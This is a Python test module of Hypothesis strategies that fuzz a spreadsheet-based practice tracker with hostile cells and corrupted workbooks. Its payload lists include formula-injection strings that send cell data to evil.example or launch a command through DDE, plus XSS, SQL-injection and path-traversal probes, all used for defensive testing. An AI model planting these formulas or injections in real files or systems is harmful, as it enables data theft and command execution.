"""Hostile and careless input for the engine: hypothesis strategies for cells and workbooks.

Cells: every type a backend can deliver (text, int, float with nan and inf,
bool, date, datetime with a time, time, timedelta, None), huge and negative
numbers, 50,000-character text, formulas and text that a spreadsheet would
take for one (``=``, ``+``, ``-``, ``@``), right-to-left names, combining marks,
zero-width and control characters, dates typed in every format.

Workbooks start from a valid practice (:func:`practices`) and are then spoiled:
cells replaced, hostile rows and blank rows inserted, rows duplicated (same
IDs and names), header columns dropped, duplicated, renamed in odd case,
reordered, unknown columns added, tabs renamed or doubled.
"""

from __future__ import annotations

import math
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from typing import Any

from hypothesis import strategies as st

from rules.model import Table
from rules.schema import CLIENTS, PACKAGES, SESSIONS, TEMPLATES, Tab
from rules.values import key, text

TODAY = date(2026, 11, 22)
BASE = date(2026, 6, 1)
NAMES = ["Ann Lee", "Bob Stone", "Cara Diaz", "Dev Rao", "Eli Roth"]
TEMPLATE_NAMES = ["5-Session Pack", "Intro", "10 Pack"]
OUTCOMES = ["", "Attended", "No-show", "Late cancel", "Cancelled", "no show"]
SPECS: dict[str, Tab] = {t.name: t for t in (CLIENTS, PACKAGES, SESSIONS, TEMPLATES)}

# --- cells -------------------------------------------------------------------------------

RTL = [
    "\u0645\u0631\u064a\u0645 \u0627\u0644\u062d\u0633\u0646",  # Arabic
    "\u05e9\u05e8\u05d4 \u05db\u05d4\u05df",  # Hebrew
    "\u202eevil\u202c",  # right-to-left override
    "\u200fAnn\u200e",  # RTL / LTR marks
]
ODD = [
    "Ann\u200bLee",  # zero-width space
    "\ufeffBob",  # byte-order mark
    "Cara\u0301",  # combining acute
    "e\u0301\u0327\u0308",  # stacked combining marks
    "Zo\u00eb",
    "\U0001f600 smiley",
    "tab\tinside",
    "line\nbreak",
    "cr\rreturn",
    "bell\x07",
    "nul\x00byte",
    "esc\x1b[31m",
    "_x0041_",  # looks like an Excel escape
    "  spaced  ",
    "\u00a0nbsp\u00a0",
    "<script>alert(1)</script>",
    "<b>Ann</b>",
    "'quoted'",
    '"dq"',
    "Robert'); DROP TABLE clients;--",
    "%s %d {0} {name}",
    "../../etc/passwd",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+44 7700 900123",
    "+1+1",
    "-2",
    "-2+3",
    "@SUM(A1:A9)",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "\t=1+1",
    "=",
]
DATE_TEXTS = [
    "2026-11-20",
    " 2026-11-20 ",
    "2026-11-20 10:30",
    "2026-11-20T10:30:00.123",
    "2026-11-20Z",
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "9999-12-31",
    "1899-12-30",
    "20/11/2026",
    "11/20/2026",
    "5/6/2026",
    "05.06.26",
    "20-11-26",
    "2026/11/20",
    "20261120",
    "Nov 20, 2026",
    "20 November 2026",
    "mardi 20 novembre 2026",
    "\u0662\u0660\u0662\u0666-\u0661\u0661-\u0662\u0660",  # Arabic-Indic digits
    "yesterday",
    "45980",
    "45980.5",
]
NUMBER_TEXTS = [
    "10",
    "10.0",
    " 7 ",
    "1e3",
    "1e999",
    "NaN",
    "inf",
    "-0",
    "0x10",
    "1,000",
    "1.000,50",
    "$1,200.50",
    "120 \u20ac",
    "\u00a390",
    "-\u00a35",
    "\u0665",  # Arabic-Indic five
    "\uff15",  # full-width five
    "10\u00a0000",
]


def long_text(n: int) -> str:
    return ("Ann Lee " * (n // 8 + 1))[:n]


hostile_text = st.one_of(
    st.sampled_from(RTL + ODD + FORMULAS),
    st.sampled_from(DATE_TEXTS + NUMBER_TEXTS),
    st.text(max_size=12),
    st.text(alphabet=st.characters(categories=["Mn", "Cf", "Zs", "Cc"]), max_size=6),
    st.builds(long_text, st.sampled_from([50_000, 32_768, 20_000, 1_000])),
)

hostile_value: st.SearchStrategy[object] = st.one_of(
    st.none(),
    st.sampled_from(["", " ", "\t"]),
    st.booleans(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([0, -1, -5, 1, 3, 10**6, 2**63, -(2**63), 10**30, 1e308, -0.0, 2.5, math.nan]),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)),
    st.datetimes(min_value=datetime(1899, 1, 1), max_value=datetime(2300, 1, 1)),
    st.times(),
    st.timedeltas(min_value=timedelta(days=-1000), max_value=timedelta(days=1000)),
    hostile_text,
)

# --- a valid practice --------------------------------------------------------------------

Row = dict[str, Any]


@dataclass
class Practice:
    """Rows by tab, keyed by column name (a valid practice, before it is spoiled)."""

    rows: dict[str, list[Row]] = field(default_factory=dict)


@st.composite
def practices(draw: st.DrawFn) -> Practice:
    n_clients = draw(st.integers(1, len(NAMES)))
    clients: list[Row] = []
    for i in range(n_clients):
        row: Row = {"Client": NAMES[i]}
        if draw(st.booleans()):
            row["Email"] = f"client{i}@example.com"
        row["Billing"] = draw(st.sampled_from(["", "Package", "Package", "per session", "None"]))
        clients.append(row)
    templates: list[Row] = []
    for name in TEMPLATE_NAMES[: draw(st.integers(0, len(TEMPLATE_NAMES)))]:
        templates.append(
            {
                "Template": name,
                "Sessions": draw(st.integers(1, 10)),
                "Price": draw(st.sampled_from([None, 90, "£120.50", 0])),
                "Expiry days": draw(st.sampled_from([None, 30, 90])),
            }
        )
    packages: list[Row] = []
    for i in range(draw(st.integers(0, 5))):
        prow: Row = {"Client": NAMES[draw(st.integers(0, n_clients - 1))]}
        if draw(st.booleans()):
            prow["Package ID"] = f"P-{i + 1:04d}"
        if draw(st.booleans()) and templates:
            prow["Template"] = draw(st.sampled_from([t["Template"] for t in templates]))
        else:
            prow["Sessions"] = draw(st.integers(1, 6))
        if draw(st.booleans()):
            prow["Package"] = f"Pack {i + 1}"
        day = draw(st.integers(0, 150))
        if draw(st.integers(0, 4)):
            prow["Purchased"] = BASE + timedelta(days=day)
        if draw(st.booleans()):
            prow["Expires"] = BASE + timedelta(days=day + draw(st.integers(1, 200)))
        if draw(st.booleans()):
            prow["Adjust"] = draw(st.integers(-3, 2))
        if draw(st.integers(0, 3)) == 0:
            prow["Shared with"] = NAMES[draw(st.integers(0, n_clients - 1))]
        packages.append(prow)
    sessions: list[Row] = []
    for _ in range(draw(st.integers(0, 12))):
        srow: Row = {
            "Date": BASE + timedelta(days=draw(st.integers(0, 175))),
            "Client": NAMES[draw(st.integers(0, n_clients - 1))],
            "Outcome": draw(st.sampled_from(OUTCOMES)),
        }
        if packages and draw(st.integers(0, 3)) == 0:
            srow["Package ID"] = f"P-{draw(st.integers(1, len(packages))):04d}"
        sessions.append(srow)
    return Practice(
        {"Clients": clients, "Packages": packages, "Sessions": sessions, "Templates": templates}
    )


def header_of(spec: Tab, rows: list[Row]) -> list[str]:
    """The contract's input columns, then its computed ones (as ``init`` lays them out)."""
    names = [c.name for c in spec.columns if c.name != "Balance link"]
    return names + [n for row in rows for n in row if n not in names]


def tables(practice: Practice) -> dict[str, Table]:
    out = {}
    for name, rows in practice.rows.items():
        header = header_of(SPECS[name], rows)
        out[name] = Table(name, header, [[row.get(h) for h in header] for row in rows])
    return out


# --- spoiling it --------------------------------------------------------------------------


@dataclass(frozen=True)
class Spoiled:
    """A hostile workbook, and what was done to it (hypothesis shows this on a failure)."""

    tables: dict[str, Table]
    done: tuple[str, ...]


def _spaced(name: str) -> str:
    return f"  {name} "


#: How a practitioner may spell a header: the contract's name in any case, spaced.
spellings: st.SearchStrategy[Callable[[str], str]] = st.sampled_from(
    [str, str.upper, str.lower, _spaced]
)


def _unknown_to(spec: Tab) -> st.SearchStrategy[object]:
    known = frozenset(key(c.name) for c in spec.columns)
    return hostile_value.filter(lambda v: v is None or key(text(v)) not in known)


#: Per tab, header values that name none of its columns.
UNKNOWN_HEADERS = {name: _unknown_to(spec) for name, spec in SPECS.items()}
_small = st.integers(0, 2)
_one_in = {n: st.integers(0, n - 1) for n in (2, 4, 6, 8, 10)}
_row_kind = st.sampled_from(["hostile", "blank", "duplicate"])
_blank = st.sampled_from([None, "", " "])


@st.composite
def hostile_workbooks(draw: st.DrawFn) -> Spoiled:
    """A valid practice, then spoiled cell by cell, row by row, column by column."""
    practice = draw(practices())
    done: list[str] = []
    out: dict[str, Table] = {}
    for name, rows in practice.rows.items():
        spec = SPECS[name]
        header: list[object] = list(header_of(spec, rows))
        body = [[row.get(str(h)) for h in header] for row in rows]
        # Cells: a few replaced by hostile values (computed columns get junk too).
        if body:
            for _ in range(draw(st.integers(0, len(body) * 2))):
                r, c = draw(st.integers(0, len(body) - 1)), draw(st.integers(0, len(header) - 1))
                body[r][c] = draw(hostile_value)
                done.append(f"{name}!{header[c]} row {r + 2} spoiled")
        # Rows: hostile ones, blank ones, duplicates (same IDs and names).
        for _ in range(draw(_small)):
            at = draw(st.integers(0, len(body)))
            kind = draw(_row_kind)
            if kind == "duplicate" and body:
                new = list(body[draw(st.integers(0, len(body) - 1))])
            elif kind == "blank":
                new = [draw(_blank)] * len(header)
            else:
                new = [draw(hostile_value) for _ in header]
            body.insert(at, new)
            done.append(f"{name}: {kind} row inserted at row {at + 2}")
        # Columns: dropped, duplicated, renamed oddly, unknown ones added, reordered.
        if header and draw(_one_in[6]) == 0:
            c = draw(st.integers(0, len(header) - 1))
            done.append(f"{name}: column {header[c]!r} dropped")
            del header[c]
            for row in body:
                del row[c]
        if header and draw(_one_in[8]) == 0:
            c = draw(st.integers(0, len(header) - 1))
            done.append(f"{name}: column {header[c]!r} duplicated")
            header.append(header[c])
            for row in body:
                row.append(row[c])
        if header and draw(_one_in[2]) == 0:
            c = draw(st.integers(0, len(header) - 1))
            header[c] = draw(spellings)(str(header[c]))
        for _ in range(draw(_small)):
            header.append(draw(UNKNOWN_HEADERS[name]))
            for row in body:
                row.append(draw(hostile_value))
            done.append(f"{name}: unknown column {header[-1]!r} added")
        if draw(_one_in[2]) == 0:
            order = draw(st.permutations(range(len(header))))
            header = [header[i] for i in order]
            body = [[row[i] for i in order] for row in body]
        if body and draw(_one_in[2]) == 0:  # a row shorter than the header, trimmed
            r = draw(st.integers(0, len(body) - 1))
            body[r] = body[r][: draw(st.integers(0, len(body[r])))]
        title = draw(st.sampled_from([name, name.upper(), f" {name.lower()} "]))
        out[title] = Table(title, header, body)
    if draw(_one_in[10]) == 0:
        title = draw(st.sampled_from(["Clients", "Packages", "Sessions"]))
        out[f"{title.lower()}  "] = Table(f"{title.lower()}  ", ["Client"], [["Ann Lee"]])
        done.append(f"a second tab named like {title}")
    if draw(_one_in[2]) == 0:
        junk = draw(st.lists(st.lists(hostile_value, max_size=3), max_size=3))
        out["Dashboard"] = Table("Dashboard", ["junk"], junk)
        done.append("a Dashboard tab full of junk")
    return Spoiled(out, tuple(done))
